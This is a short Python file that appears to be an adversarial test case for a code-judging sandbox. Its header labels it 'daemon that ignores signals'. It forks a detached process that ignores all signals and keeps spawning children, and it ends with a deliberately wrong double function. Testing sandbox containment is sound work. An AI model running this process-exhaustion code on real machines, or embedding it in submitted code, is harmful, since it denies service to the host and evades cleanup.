# attack: daemon that ignores signals | expect: wrong_answer
import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        if os.fork() == 0:
            time.sleep(0.5)
            continue
        time.sleep(120)
time.sleep(0.2)


def double(n):
    return 0
